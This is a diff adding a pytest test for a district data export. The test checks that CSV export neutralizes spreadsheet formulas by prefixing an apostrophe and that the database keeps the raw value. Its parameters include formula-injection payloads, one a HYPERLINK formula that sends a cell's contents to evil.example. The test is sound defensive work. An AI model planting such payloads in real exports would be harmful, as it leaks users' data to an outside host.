@@ -450,3 +450,30 @@ def test_latest_preview_is_none_without_one(engine, store, instance, north):
         assert privacy.latest_preview(conn, "north") is None
         with pytest.raises(BadInput, match="unknown district"):
             privacy.latest_preview(conn, "nowhere")
+
+
+@pytest.mark.parametrize(
+    "sent",
+    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\tTab",
+     "\rCR"],
+)  # fmt: skip
+def test_the_export_for_people_neutralizes_formulas_and_the_app_db_keeps_them(
+    engine, north, tmp_path, sent
+):
+    users = tables.users
+    with engine.begin() as conn:
+        conn.execute(
+            users.update().where(users.c.sourced_id == "north-users-0").values(family_name=sent)
+        )
+    out = tmp_path / "export"
+    privacy.export_district(engine, "north", out)
+    exported = next(u for u in read_csv(out / "users.csv") if u["sourced_id"] == "north-users-0")
+    assert exported["family_name"] == "'" + sent  # shown as text by a spreadsheet, never run
+    assert exported["given_name"] == "Ada"  # ordinary text untouched
+    manifest = json.loads((out / "manifest.json").read_text())
+    assert "apostrophe" in manifest["formula_neutralization"]
+    with engine.connect() as conn:
+        stored = conn.execute(
+            sa.select(users.c.family_name).where(users.c.sourced_id == "north-users-0")
+        ).scalar_one()
+    assert stored == sent
